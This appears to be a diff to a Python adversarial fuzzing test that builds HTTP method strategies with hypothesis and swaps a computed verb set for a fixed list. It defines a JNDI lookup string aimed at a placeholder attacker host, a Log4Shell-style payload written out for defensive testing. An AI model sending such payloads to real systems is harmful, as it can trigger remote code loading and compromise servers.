@@ -8,11 +8,11 @@ from urllib.parse import unquote
 
 from hypothesis import strategies as st
 
-from tests.adversarial.contract import ROUTE_PATHS, ROUTES
+from tests.adversarial.contract import ROUTE_PATHS
 
 JNDI = "${jndi:ldap://attacker.invalid/a}"
 
-_VERBS = sorted({route.method for route in ROUTES} | {"POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT"})
+_VERBS = ["CONNECT", "DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "POST", "PUT", "TRACE"]
 methods = st.one_of(
     st.sampled_from(_VERBS),
     st.sampled_from(_VERBS).map(str.lower),
